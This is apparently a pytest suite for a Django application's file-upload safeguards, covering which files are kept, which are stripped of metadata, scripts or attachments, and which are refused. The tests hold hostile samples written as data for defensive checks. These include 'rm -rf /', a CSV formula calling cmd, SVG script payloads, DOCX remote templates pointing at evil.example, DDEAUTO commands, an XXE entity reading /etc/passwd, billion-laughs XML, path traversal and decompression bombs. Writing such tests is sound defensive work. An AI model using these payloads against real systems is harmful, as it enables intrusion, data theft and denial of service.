"""Taking files in: what is kept, what is taken out of it, what is refused and leaves nothing."""

from __future__ import annotations

import hashlib
import io
import zipfile
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from PIL import Image

from intersession.access.actor import SYSTEM, Actor
from intersession.access.errors import NotAllowed, Refused
from intersession.audit.models import Event
from intersession.library.models import Resource, ResourceFile
from intersession.safety import clock
from intersession.safety.actions import forget_files, remove_file, take_in
from intersession.safety.kinds import MEDIA_TYPES, SHARED, Kind
from intersession.safety.models import StoredFile
from intersession.safety.reading import opened
from tests.safety import making
from tests.safety.making import sent
from tests.world import World

type Kept = Callable[[], list[Path]]


def content(stored: StoredFile) -> bytes:
    with opened(stored) as file:
        return file.read()


GOOD: dict[str, tuple[Callable[[], bytes], str, str, str]] = {
    "pdf": (making.pdf, "guide.pdf", "application/pdf", "guide.pdf"),
    "docx": (making.docx, "code.docx", MEDIA_TYPES[Kind.DOCX], "code.docx"),
    "odt": (making.odt, "informe.odt", "application/vnd.oasis.opendocument.text", "informe.odt"),
    "png": (making.picture, "a.png", "image/png", "a.png"),
    "jpeg": (lambda: making.picture("JPEG"), "a.jpeg", "image/jpeg", "a.jpg"),
    "webp": (lambda: making.picture("WEBP"), "a.webp", "image/webp", "a.webp"),
    "gif": (lambda: making.picture("GIF"), "a.gif", "image/png", "a.png"),
    "csv": (lambda: "país,año\nKenia,2021\n".encode("latin-1"), "tabla.csv", "text/csv", "tabla.csv"),
    "text": (lambda: "Ein kurzer Text über Schutz.".encode(), "text.md", "text/plain", "text.txt"),
    "a program's name": (making.pdf, "guide.exe", "application/pdf", "guide.pdf"),
    "no name at all": (making.pdf, "x", "application/pdf", "x.pdf"),
}  # fmt: skip


@pytest.mark.parametrize("sort", GOOD)
def test_a_good_file_is_kept_under_a_key_and_by_its_content(sort: str, ben: Actor, kept: Kept) -> None:
    make, name, media_type, kept_name = GOOD[sort]
    stored = take_in(ben, sent(make(), name))
    assert (stored.media_type, stored.name) == (media_type, kept_name)
    assert (stored.person, stored.organisation) == (ben.person, ben.organisation)
    assert [path.name for path in kept()] == [stored.key]
    assert stored.sha256 == hashlib.sha256(content(stored)).hexdigest()
    assert stored.size == len(content(stored))
    assert Event.objects.get(subject_id=str(stored.pk), verb="file.taken-in").is_public is False


def hostile_odt(**parts: bytes | str) -> Callable[[], bytes]:
    return lambda: making.odt_with({name.replace("__", "/"): content for name, content in parts.items()})


def docx_with(parts: dict[str, bytes | str]) -> Callable[[], bytes]:
    return lambda: making.docx(parts)


CONTENT_OF_ODT = '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">{}</office:document-content>'  # noqa: E501
REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "zero bytes": (lambda: b"", "empty"),
    "only blanks": (lambda: b" \n\n ", "nothing in this file"),
    "a zip": (lambda: making.archive({"a.txt": "x"}), "Archives"),
    "a jar": (lambda: making.archive({"META-INF/MANIFEST.MF": "x"}), "Archives"),
    "gzip": (lambda: b"\x1f\x8b\x08" + bytes(20), "Archives"),
    "a program": (lambda: b"MZ" + bytes(100), "program"),
    "a shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", "program"),
    "svg": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "SVG"),
    "svg behind xml": (lambda: b'<?xml version="1.0"?>\n<!-- x --><svg onload="a()"/>', "SVG"),
    "svg in utf-16": (lambda: '<svg onload="a()"/>'.encode("utf-16"), "SVG"),
    "a web page": (lambda: b"\n <!DOCTYPE html><p>x", "web page"),
    "an old document": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old Office"),
    "a video": (lambda: b"\x00\x00\x00\x20ftypisom" + bytes(40), "Sound and video"),
    "heic": (lambda: b"\x00\x00\x00\x20ftypheic" + bytes(40), "JPEG or PNG"),
    "binary nonsense": (lambda: bytes(range(256)) * 4, "could not tell"),
    "zeros": (lambda: bytes(5000), "could not tell"),
    "a formula": (lambda: b"name,value\nx,=cmd|' /C calc'!A0\n", "Row 2"),
    "a truncated picture": (lambda: making.picture()[:-2000], "damaged"),
    "a truncated jpeg": (lambda: making.picture("JPEG")[:-3000], "damaged"),
    "a picture in name only": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(100), "damaged"),
    "a png bomb": (making.png_bomb, "million pixels"),
    "a truncated pdf": (lambda: b"%PDF-1.7\n" + bytes(100), "damaged"),
    "a pdf bomb": (making.bomb_pdf, "more time or memory"),
    "a pdf with a password": (
        lambda: making.pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
        "needs a password",
    ),
    "a docx with macros": (docx_with({"word/vbaProject.bin": b"x"}), "macros"),
    "a docx that says macros": (
        docx_with({"[Content_Types].xml": "<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>"}),
        "macros",
    ),
    "a docx with a workbook inside": (
        lambda: making.docx({"word/embeddings/sheet.xlsx": making.xlsx([[1]])}),
        "other files inside",
    ),
    "a docx with a program as a picture": (docx_with({"word/media/a.png": b"MZ" + bytes(99)}), "other files"),
    "a docx with an odd part": (docx_with({"word/evil.exe": b"MZ"}), "other files"),
    "a docx with a remote template": (
        docx_with({"word/_rels/settings.xml.rels": making.relation("attachedTemplate", "http://evil.example/t.dotm")}),
        "fetch something",
    ),
    "a docx with a remote picture": (
        docx_with({"word/_rels/document.xml.rels": making.relation("image", "http://evil.example/pixel.png")}),
        "fetch something",
    ),
    "a docx with a link to a program": (
        docx_with({"word/_rels/document.xml.rels": making.relation("hyperlink", "file:///c:/evil.exe")}),
        "fetch something",
    ),
    "a docx with DDE": (
        docx_with(
            {"word/footer1.xml": f'<w:f xmlns:w="{making.WORD}"><w:instrText> DDEAUTO c:\\cmd </w:instrText></w:f>'}
        ),
        "fetch something",
    ),
    "a docx with an entity": (
        docx_with({"word/footer1.xml": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}),
        "fetch something",
    ),
    "a docx with laughs": (
        docx_with({"word/footer1.xml": '<!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;">]><a>&y;</a>'}),
        "fetch something",
    ),
    "a docx with broken XML": (docx_with({"word/footer1.xml": "<a><b></a>"}), "damaged"),
    "a docx with a path": (docx_with({"word/../../../evil.xml": "<a/>"}), "two things"),
    "a docx with a part twice": (docx_with({"WORD/document.xml": "<a/>"}), "two things"),
    "a docx with a bomb": (
        lambda: making.docx({"word/media/a.bmp": b"BM" + bytes(100_000_000)}),
        "more time or memory",
    ),
    "an odt with macros": (hostile_odt(Basic__Standard__Module1_xml="x"), "macros"),
    "an odt with a listener": (
        hostile_odt(**{"content.xml": CONTENT_OF_ODT.format("<script:event-listener/>")}),
        "macros",
    ),
    "an odt with an object": (
        hostile_odt(**{"content.xml": CONTENT_OF_ODT.format("<draw:object-ole/>")}),
        "other files inside",
    ),
    "an odt with a remote picture": (
        hostile_odt(**{"content.xml": CONTENT_OF_ODT.format('<draw:image xlink:href="http://evil.example/a"/>')}),
        "fetch something",
    ),
    "an odt with a password": (hostile_odt(**{"META-INF__manifest.xml": "<x:encryption-data/>"}), "needs a password"),
}  # fmt: skip


@pytest.mark.parametrize("sort", REFUSED)
def test_a_hostile_file_is_refused_with_a_sentence_and_leaves_nothing(
    sort: str, ben: Actor, kept: Kept
) -> None:
    make, words = REFUSED[sort]
    events = Event.objects.count()
    with pytest.raises(Refused) as refusal:
        take_in(ben, sent(make(), "list.csv" if sort == "a formula" else "report.pdf"))
    assert words in str(refusal.value.sentence)
    assert kept() == []
    assert not StoredFile.objects.exists()
    assert Event.objects.count() == events


def test_a_photograph_loses_place_camera_and_comment_and_stands_upright(ben: Actor) -> None:
    stored = take_in(ben, sent(making.gps_jpeg(), "IMG_0001.JPG"))
    data = content(stored)
    picture = Image.open(io.BytesIO(data))
    assert b"Secret" not in data
    assert not picture.getexif()
    assert picture.size == (200, 320)
    assert stored.left_out == ["metadata"]


def test_a_moving_picture_is_kept_as_its_first(ben: Actor) -> None:
    frames = [Image.new("RGB", (60, 60), colour) for colour in ("red", "blue")]
    data = io.BytesIO()
    frames[0].save(data, "GIF", save_all=True, append_images=frames[1:])
    stored = take_in(ben, sent(data.getvalue(), "a.gif"))
    kept_picture = Image.open(io.BytesIO(content(stored)))
    assert stored.left_out == ["motion"]
    assert kept_picture.convert("RGB").getpixel((5, 5)) == (255, 0, 0)
    assert getattr(kept_picture, "n_frames", 1) == 1


@pytest.mark.parametrize(
    ("change", "gone", "left_out"),
    [
        (making.with_script, (b"EvilScript", b"EvilProgram", b"/JavaScript", b"/OpenAction"), "scripts"),
        (making.with_attachment, (b"EvilBytes", b"EvilProgram", b"/EmbeddedFile"), "attachments"),
    ],
)
def test_a_pdf_loses_what_acts_and_what_it_carries(
    change: Any, gone: tuple[bytes, ...], left_out: str, ben: Actor
) -> None:
    stored = take_in(ben, sent(making.pdf("One", "Two", change=change), "a.pdf"))
    bare = io.BytesIO()
    with pikepdf.open(io.BytesIO(content(stored))) as document:
        document.save(
            bare,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            stream_decode_level=pikepdf.StreamDecodeLevel.all,
            compress_streams=False,
        )
    for words in gone:
        assert words not in bare.getvalue()
    assert left_out in stored.left_out
    assert stored.pages == 2
    assert b"(Two) Tj" in bare.getvalue()


def test_a_pdf_that_only_forbids_printing_is_kept_without_the_lock(ben: Actor) -> None:
    stored = take_in(ben, sent(making.pdf(encryption=pikepdf.Encryption(owner="a", user="")), "a.pdf"))
    assert stored.left_out == ["lock"]
    assert not pikepdf.open(io.BytesIO(content(stored))).is_encrypted


POLYGLOTS: dict[str, tuple[Callable[[], bytes], bytes]] = {
    "a picture that is also an archive": (
        lambda: making.picture("GIF") + making.archive({"EvilPart": "x"}),
        b"EvilPart",
    ),
    "a jpeg with a web page in its comment": (
        lambda: making.picture("JPEG", comment=b"<script>EvilPart</script>"),
        b"EvilPart",
    ),
    "a pdf that is also an archive": (
        lambda: making.pdf() + making.archive({"EvilPart": "x"}),
        b"EvilPart",
    ),
    "a docx with a program behind it": (lambda: making.docx() + b"MZ EvilPart", b"EvilPart"),
    "a pdf with an earlier revision": (
        lambda: making.pdf("Short").replace(b"%%EOF", b"%%EOF\n% EvilPart\n"),
        b"EvilPart",
    ),
}


@pytest.mark.parametrize("sort", POLYGLOTS)
def test_what_is_two_things_at_once_is_kept_as_the_one_it_shows(sort: str, ben: Actor) -> None:
    make, evil = POLYGLOTS[sort]
    data = make()
    assert evil in data
    try:
        stored = take_in(ben, sent(data, "x"))
    except Refused:
        assert not StoredFile.objects.exists()
        return
    assert evil not in content(stored)


def test_pictures_in_a_document_lose_their_place_too(ben: Actor) -> None:
    stored = take_in(ben, sent(making.docx({"word/media/image1.jpg": making.gps_jpeg()}), "a.docx"))
    with zipfile.ZipFile(io.BytesIO(content(stored))) as parts:
        inside = parts.read("word/media/image1.jpg")
    assert b"Secret" not in inside
    assert Image.open(io.BytesIO(inside)).convert("L").size == (320, 200)


def test_the_same_file_twice_is_the_same_content_under_two_keys(ben: Actor) -> None:
    for make in (making.pdf, making.docx, making.picture):
        data = make()
        first, second = (take_in(ben, sent(data, "a")) for _ in range(2))
        assert first.sha256 == second.sha256
        assert first.key != second.key


def test_a_workbook_is_taken_only_where_it_is_asked_for(ben: Actor) -> None:
    data = making.xlsx([["a", 1]])
    with pytest.raises(Refused):
        take_in(ben, sent(data, "a.xlsx"))
    assert take_in(ben, sent(data, "a.xlsx"), kinds=SHARED | {Kind.XLSX}).kind is Kind.XLSX


def test_what_is_too_large_is_told_its_limit(ben: Actor, settings: Any, kept: Kept) -> None:
    settings.UPLOADS = {**settings.UPLOADS, "bytes": 1000, "picture_bytes": 100}
    with pytest.raises(Refused, match="1000\xa0bytes"):
        take_in(ben, sent(b"%PDF-" + bytes(1001), "a.pdf"))
    with pytest.raises(Refused, match="100\xa0bytes"):
        take_in(ben, sent(making.picture(size=(4, 4)) + bytes(100), "a.png"))
    assert kept() == []


def test_too_many_pages_are_refused(ben: Actor, settings: Any) -> None:
    settings.UPLOADS = {**settings.UPLOADS, "pages": 2}
    with pytest.raises(Refused, match="more than 2 pages"):
        take_in(ben, sent(making.pdf("a", "b", "c"), "a.pdf"))


@pytest.mark.parametrize("name", ["visitor", "eve", "vic"])
def test_only_members_and_the_secretariat_send_files(name: str, world: World, kept: Kept) -> None:
    with pytest.raises(NotAllowed):
        take_in(world.actor(name), sent(making.pdf(), "a.pdf"))
    assert kept() == []


def test_the_secretariat_may(world: World) -> None:
    assert take_in(world.actor("ada"), sent(making.pdf(), "a.pdf")).person == world.people["ada"]


def test_a_person_is_slowed_down_and_others_are_not(ben: Actor, world: World, settings: Any) -> None:
    settings.UPLOADS = {**settings.UPLOADS, "per_hour": 2}
    for _ in range(2):
        take_in(ben, sent(b"text", "a.txt"))
    with pytest.raises(Refused, match="2 files within an hour"):
        take_in(ben, sent(b"text", "a.txt"))
    take_in(world.actor("chi"), sent(b"text", "a.txt"))


@pytest.mark.django_db(transaction=True)
def test_it_will_not_run_inside_a_transaction(kept: Kept) -> None:
    with transaction.atomic(), pytest.raises(transaction.TransactionManagementError):
        take_in(Actor(), sent(making.pdf(), "a.pdf"))


def test_a_storage_that_fails_leaves_no_row(ben: Actor, storage: Path) -> None:
    storage.parent.mkdir(exist_ok=True)
    storage.write_text("a file where a folder should be")
    with pytest.raises(Refused, match="could not be kept"):
        take_in(ben, sent(making.pdf(), "a.pdf"))
    assert not StoredFile.objects.exists()


def test_a_removed_file_leaves_a_row_that_says_why(
    ben: Actor, kept: Kept, django_capture_on_commit_callbacks: Any
) -> None:
    stored = take_in(ben, sent(making.pdf(), "a.pdf"))
    with pytest.raises(Refused, match="says why"):
        remove_file(ben, stored, "  ")
    with django_capture_on_commit_callbacks(execute=True):
        removed = remove_file(ben, stored, "Sent by mistake.")
    assert kept() == []
    assert (removed.removed_because, removed.is_removed) == ("Sent by mistake.", True)
    assert Event.objects.get(verb="file.removed").facts == {"reason": "Sent by mistake."}
    with pytest.raises(Refused, match="already"):
        remove_file(ben, stored, "Again.")
    with pytest.raises(FileNotFoundError):
        opened(removed)


def test_a_file_is_removed_by_who_sent_it_or_an_office_only(ben: Actor, world: World) -> None:
    stored = take_in(ben, sent(making.pdf(), "a.pdf"))
    for name in ("chi", "eve", "vic", "visitor"):
        with pytest.raises(NotAllowed):
            remove_file(world.actor(name), stored, "Because.")
    assert remove_file(world.actor("ada"), stored, "Asked for.").is_removed


def test_what_was_sent_and_not_used_is_forgotten_after_a_day(
    ben: Actor, kept: Kept, django_capture_on_commit_callbacks: Any
) -> None:
    old, fresh, used = (take_in(ben, sent(b"A text.", "a.txt")) for _ in range(3))
    resource = Resource.objects.order_by("pk")[0]
    ResourceFile.objects.create(resource=resource, stored=used)
    StoredFile.objects.filter(pk__in=[old.pk, used.pk]).update(
        created_at=timezone.now() - timedelta(hours=25)
    )
    with pytest.raises(NotAllowed):
        forget_files(ben)
    with django_capture_on_commit_callbacks(execute=True):
        assert forget_files(SYSTEM) == 1
    assert forget_files(SYSTEM) == 0
    old.refresh_from_db()
    assert old.is_removed
    assert {path.name for path in kept()} == {fresh.key, used.key}


def test_the_clock_looks_now_and_then(monkeypatch: pytest.MonkeyPatch, world: World) -> None:
    monkeypatch.setattr(clock, "_next", 0.0)
    assert clock.tick(SYSTEM) == 0
    with CaptureQueriesContext(connection) as captured:
        assert clock.tick(SYSTEM) == 0
    assert len(captured) == 0


@pytest.mark.parametrize("packed", [pikepdf.Name.DCTDecode, pikepdf.Array([pikepdf.Name.DCTDecode])])
def test_a_photograph_in_a_pdf_loses_its_place_too(packed: Any, ben: Actor) -> None:
    photograph = making.gps_jpeg()

    def change(document: pikepdf.Pdf) -> None:
        image = pikepdf.Stream(document, b"")
        image.write(photograph, filter=packed)
        image.update(
            {"/Type": pikepdf.Name.XObject, "/Subtype": pikepdf.Name.Image, "/Width": 320, "/Height": 200,
             "/ColorSpace": pikepdf.Name.DeviceRGB, "/BitsPerComponent": 8}
        )  # fmt: skip
        document.pages[0].Resources.XObject = pikepdf.Dictionary(Im0=image)

    data = making.pdf(change=change)
    assert b"Secret" in data
    stored = take_in(ben, sent(data, "a.pdf"))
    assert stored.left_out == ["metadata"]
    assert b"Secret" not in content(stored)
    with pikepdf.open(io.BytesIO(content(stored))) as document:
        image = document.pages[0].Resources.XObject.Im0
        assert isinstance(image, pikepdf.Stream)
        inside = pikepdf.PdfImage(image).as_pil_image()
    assert inside.size == (320, 200)
